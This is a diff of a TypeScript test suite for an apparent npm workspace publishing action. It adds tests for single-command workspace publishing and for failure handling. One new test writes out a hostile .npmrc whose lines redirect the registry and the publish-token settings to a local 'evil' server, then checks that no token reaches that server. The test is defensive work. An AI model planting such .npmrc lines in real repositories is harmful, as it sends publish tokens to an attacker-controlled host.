@@ -381,6 +381,11 @@ describe('an npm workspace in one step', () => {
       expect(run.summary).toContain(`<code>@npmws/${name}</code>`)
     expect(run.summary.match(/<h3>Token checks<\/h3>/g)).toHaveLength(1)
     expect(run.main.stdout).toContain('Skipping @npmws/e@1.0.0 (packages/e): private.')
+    // One npm for the four uploads (npm publish --workspaces over links in the private dir).
+    expect(run.main.stdout.match(/^::group::npm publish/gm)).toEqual(['::group::npm publish'])
+    expect(run.main.stdout).toContain(
+      '::group::npm publish --workspaces @npmws/a@1.0.0 @npmws/d@1.0.0 @npmws/b@1.0.0 @npmws/c@1.0.0'
+    )
   })
 
   it('a rerun with nothing changed skips every package, uploads nothing and succeeds', async () => {
@@ -682,6 +687,57 @@ describe('changesets: `changeset version` in the PR, this step on main', () => {
   })
 })
 
+describe('the token goes only to the registry, also when one npm publishes the workspace', () => {
+  it('a hostile .npmrc at the workspace root and in the members cannot redirect the scoped packages', async () => {
+    const hits: string[] = []
+    const evil = http.createServer((req, res) => {
+      hits.push(`${req.method} ${req.url} auth=${req.headers.authorization ?? ''}`)
+      req.resume()
+      res.writeHead(404, { 'content-type': 'application/json' }).end('{}')
+    })
+    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve))
+    try {
+      const evilHost = `127.0.0.1:${(evil.address() as AddressInfo).port}`
+      const hostile = [
+        `registry=http://${evilHost}/`,
+        `@hostilews:registry=http://${evilHost}/`,
+        `//${evilHost}/:_authToken=\${NPM_AUTOMATION_PUBLISH_TOKEN}`,
+        `//${evilHost}/:_authToken=\${INPUT_TOKEN}`,
+        ''
+      ].join('\n')
+      const sandbox = makeSandbox()
+      const root = writeWorkspace(
+        sandbox,
+        'mono',
+        { name: 'hostilews-root', private: true, workspaces: ['packages/*'] },
+        {
+          'packages/a': { name: '@hostilews/a', version: '1.0.0' },
+          'packages/b': {
+            name: '@hostilews/b',
+            version: '1.0.0',
+            dependencies: { '@hostilews/a': '^1.0.0' }
+          }
+        },
+        { '.npmrc': hostile }
+      )
+      for (const member of ['a', 'b'])
+        fs.writeFileSync(path.join(root, 'packages', member, '.npmrc'), hostile)
+      fs.writeFileSync(path.join(sandbox.workspace, '.npmrc'), hostile)
+      const run = await publishWorkspace(sandbox, 'mono')
+      expect(run.main.exitCode).toBe(0)
+      expect(run.main.stdout).toContain('::group::npm publish --workspaces')
+      expect(proxy.uploads().map((u) => u.upload)).toEqual(['@hostilews/a', '@hostilews/b'])
+      expect(await registry.packument('@hostilews/b')).toBeDefined()
+      expect(hits).toEqual([])
+      expect(leftovers(run.sandbox.runnerTemp)).toEqual([])
+      expect(findLeaks(token, runSources(run, [sandbox.root]))).toEqual([])
+    } finally {
+      evil.closeAllConnections()
+      await new Promise((resolve) => evil.close(resolve))
+    }
+  })
+})
+
 describe('a failing member', () => {
   it('holds back its dependents, lets the independent ones publish, fails the step; a rerun publishes the rest', async () => {
     const sandbox = makeSandbox()
@@ -721,8 +777,14 @@ describe('a failing member', () => {
       ['@failws/b', 'failed', false, 'PUBLISH_FORBIDDEN'],
       ['@failws/c', 'held-back', false, '']
     ])
-    // c was never tried.
-    expect(proxy.requests.some((r) => r.upload === '@failws/c')).toBe(false)
+    // One npm took a, d and b in that order and stopped at b; b alone again (the one-by-one
+    // path diagnoses it); c was never tried.
+    expect(proxy.uploads().map((u) => [u.upload, u.status])).toEqual([
+      ['@failws/a', 201],
+      ['@failws/d', 201],
+      ['@failws/b', 403],
+      ['@failws/b', 403]
+    ])
     expect(await registry.packument('@failws/c')).toBeUndefined()
     expect(await registry.packument('@failws/d')).toBeDefined()
     // Why c is held back, in the summary; one annotation for the one failure.
